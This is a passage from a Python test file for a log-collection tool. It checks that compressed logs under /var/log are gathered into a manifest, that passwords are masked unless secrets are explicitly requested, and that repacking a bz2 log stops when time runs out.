    assert "searched" not in found.manifest["/var/log/dull.gz"]
    assert re.sub(rb" +\n", b"\n", gzip.decompress(found.of("/var/log/secret.gz"))) == (
        secret.replace(b"SECRET", b"***") + dull
    )
    assert found.manifest["/var/log/secret.gz"]["without"] == ["passwords"]
    raw = ("cut.gz", "long.gz", "other.xz", "wtmp", "greedy.xz", "false.xz", "cut.xz", "long.xz")
    for name in raw:
        assert found.of(f"/var/log/{name}") == (logs / name).read_bytes()
        assert found.manifest[f"/var/log/{name}"]["searched"] is False
        assert "without" not in found.manifest[f"/var/log/{name}"]
    asked = of(root, secrets=True)
    assert asked.of("/var/log/secret.gz") == (logs / "secret.gz").read_bytes()
    assert not any("searched" in one for one in asked.manifest.values())


def test_a_packed_log_is_let_go_when_the_time_is_up() -> None:
    data = bz2.compress(b"a" * 1024)
    assert packed.repacked(b"/x.bz2", data, lambda read: read) is not None
    assert packed.repacked(b"/x.bz2", data, lambda read: read, lambda: True) is None
